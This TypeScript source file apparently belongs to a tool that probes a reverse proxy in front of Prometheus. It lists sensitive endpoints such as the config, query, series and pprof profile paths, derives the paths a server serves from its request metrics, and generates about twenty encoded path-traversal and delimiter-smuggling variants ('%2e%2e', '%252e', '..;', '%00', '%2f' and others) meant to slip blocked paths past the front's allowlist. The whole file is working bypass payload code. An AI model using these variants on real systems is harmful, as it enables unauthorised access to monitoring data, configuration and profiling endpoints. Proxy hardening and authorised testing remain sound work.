/** Paths of a Prometheus below its prefix that somebody may want, each with what it takes. */
export const WANTED: readonly string[] = [
  '/api/v1/query?query=up',
  '/api/v1/query_range?query=up&start=0&end=60&step=30',
  '/api/v1/series?match[]=up',
  '/api/v1/labels?match[]=up',
  '/api/v1/status/config?x=/prometheus/federate',
  '/debug/pprof/profile?seconds=1',
  '/config',
  '/tsdb-status',
  '/',
];

/** The paths that a Prometheus serves, as it counts requests of each, but those that are for the hub. */
export function servedPaths(metrics: string, open: readonly string[]): string[] {
  const handlers = metrics.matchAll(/^prometheus_http_requests_total\{.*handler="([^"]+)"/gm);
  const served = [...handlers].map(([, handler = '']) =>
    handler.replace(/:\w+/g, 'job').replace(/\*\w+/g, ''),
  );
  return [...new Set([...served, ...WANTED])].filter((path) => !open.includes(path));
}

/** Ways to write a path so that a front may take it for one that it lets through. */
export function disguises(prefix: string, path: string, open: string): string[] {
  const at = `${prefix}${path}`;
  const through = `${prefix}${open}`;
  return [
    at,
    `/${at}`,
    `${prefix}/${path}`,
    `${prefix}/.${path}`,
    `${through}/..${path}`,
    `${through}/%2e%2e${path}`,
    `${through}/%2E%2E${path}`,
    `${through}/.%2e${path}`,
    `${through}/%252e%252e${path}`,
    `${through}%2f..${path}`,
    `${through}%2f%2e%2e${path}`,
    `${through}/..%2f${path.slice(1)}`,
    `${through}\\..${path}`,
    `${through}/..;${path}`,
    `${through};${path}`,
    `${through}%3f/..${path}`,
    `${through}%23/..${path}`,
    `${through}%00/..${path}`,
    `${through}/../..${at}`,
    `${through}${path}`,
    `${through},${at}`,
    `${at}${path.includes('?') ? '&' : '?'}${through}`,
  ];
}
